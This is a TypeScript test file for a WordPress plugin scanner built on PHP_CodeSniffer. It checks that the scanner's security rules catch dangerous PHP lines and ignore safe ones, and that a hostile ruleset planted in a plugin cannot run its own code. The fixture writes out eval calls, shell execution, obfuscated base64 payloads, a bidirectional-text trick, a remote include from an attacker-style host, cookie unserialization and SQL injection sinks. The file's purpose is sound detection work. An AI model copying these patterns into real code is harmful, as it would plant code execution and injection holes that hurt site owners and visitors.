import assert from 'node:assert/strict';
import { readdir, rm } from 'node:fs/promises';
import { after, before, describe, test } from 'node:test';
import { sniffPlugin } from '../../../src/wordpress/preflight/phpcs/sniff.ts';
import { makePluginFolder } from './plugin-folder.ts';

/** Line by line: what stands there, and what is said of it. */
const lines: readonly (readonly [string, string?])[] = [
  ['<?php'],
  ['eval($x);', 'EvaluatedCode.Eval'],
  ['eval($x); // phpcs:ignore', 'EvaluatedCode.Eval'],
  ["create_function('$a', 'return 1;');", 'EvaluatedCode.CreateFunction'],
  ["assert('phpinfo()');", 'EvaluatedCode.Assert'],
  ['assert($a === 1);'],
  ['$o = `ls $a`;', 'Shell.Backtick'],
  ['shell_exec($x);', 'Shell.Call'],
  ['$this->exec($x); Shell::system($x); function exec() {}'],
  ['gzinflate(base64_decode($x));', 'HiddenCode.Nested'],
  ['base64_decode($x);'],
  ['// if (\u202e $isAdmin) {', 'HiddenCode.Direction'],
  [`$a = '${'QUJD'.repeat(600)}';`, 'HiddenCode.LongText'],
  ["echo $_GET['a'];", 'RequestOutput.Unescaped'],
  ["?><?= $_POST['b'] ?><?php", 'RequestOutput.Unescaped'],
  ["echo esc_html($_GET['a']);"],
  ["include $_GET['f'];", 'RequestUse.Include'],
  ["require 'https://evil.example/x.php';", 'RequestUse.RemoteInclude'],
  ["require __DIR__ . '/x.php';"],
  ["unserialize($_COOKIE['c']);", 'RequestUse.Call'],
  ['unserialize($kept);'],
  ['$wpdb->query("DELETE FROM x WHERE a = $a");', 'UnpreparedQuery.Unprepared'],
  ["$wpdb->get_results('SELECT ' . $_GET['x']);", 'UnpreparedQuery.Request'],
  ['$wpdb->query($wpdb->prepare("DELETE FROM x WHERE a = %d", $a));'],
  ['$wpdb->get_var("SELECT 1 FROM {$wpdb->posts}");'],
];

describe('PHP_CodeSniffer', () => {
  let folder: string;
  before(async () => {
    folder = await makePluginFolder({
      'inc/bad lines.php': lines.map(([line]) => line).join('\n'),
      'clean.php': '<?php\nreturn 1;\n',
    });
  });
  after(() => rm(folder, { recursive: true }));
  const signal = AbortSignal.timeout(120_000);

  test('our own rules find what break-ins look like, even where the plugin says to look away, and nothing else', async () => {
    const result = await sniffPlugin({ program: 'phpcs', folder, signal });
    assert.ok(result.outcome === 'run', JSON.stringify(result));
    assert.match(result.version, /PHP_CodeSniffer/);
    const found = result.findings.map(
      ({ path, line, code }) => `${path}:${line} ${code.replace('Signpost.Security.', '')}`,
    );
    const expected = lines.flatMap(([, code], index) => (code ? [`inc/bad lines.php:${index + 1} ${code}`] : []));
    assert.deepEqual(found.sort(), expected.sort());
  });

  test('a standard that the operator names is used as it is', async () => {
    const result = await sniffPlugin({ program: 'phpcs', standard: 'PSR1', folder, signal });
    assert.ok(result.outcome === 'run');
    assert.ok(result.findings.some(({ code }) => code.startsWith('PSR1.')));
    assert.ok(!result.findings.some(({ code }) => code.startsWith('Signpost.')));
  });

  test('a standard that is not there, and a program that is not there, did not run', async () => {
    const standard = await sniffPlugin({ program: 'phpcs', standard: '/none/WordPress', folder, signal });
    assert.ok(standard.outcome === 'not_run');
    assert.match(
      standard.reason,
      /^phpcs ended with code 3: ERROR: the "\/none\/WordPress" coding standard is not installed/,
    );
    assert.deepEqual(await sniffPlugin({ program: '/none/phpcs', folder, signal }), {
      outcome: 'not_run',
      reason: '/none/phpcs is not installed',
    });
  });

  test('a plugin is not taken for the standard that the operator names and the program does not know', async () => {
    const hostile = await makePluginFolder({
      'Absent/ruleset.xml': '<?xml version="1.0"?><ruleset name="Absent"><autoload>./run.php</autoload></ruleset>',
      'Absent/run.php': "<?php file_put_contents(dirname(__DIR__) . '/ran', 'code of the plugin');",
      'plugin.php': '<?php return 1;',
    });
    const result = await sniffPlugin({ program: 'phpcs', standard: 'Absent', folder: hostile, signal });
    const names = await readdir(hostile);
    await rm(hostile, { recursive: true });
    assert.equal(result.outcome, 'not_run');
    assert.ok(!names.includes('ran'), 'code of the plugin ran');
  });

  test('whoever gives up is told so, and no result', async () => {
    const reason = new Error('the server stops');
    await assert.rejects(sniffPlugin({ program: 'phpcs', folder, signal: AbortSignal.abort(reason) }), reason);
  });
});
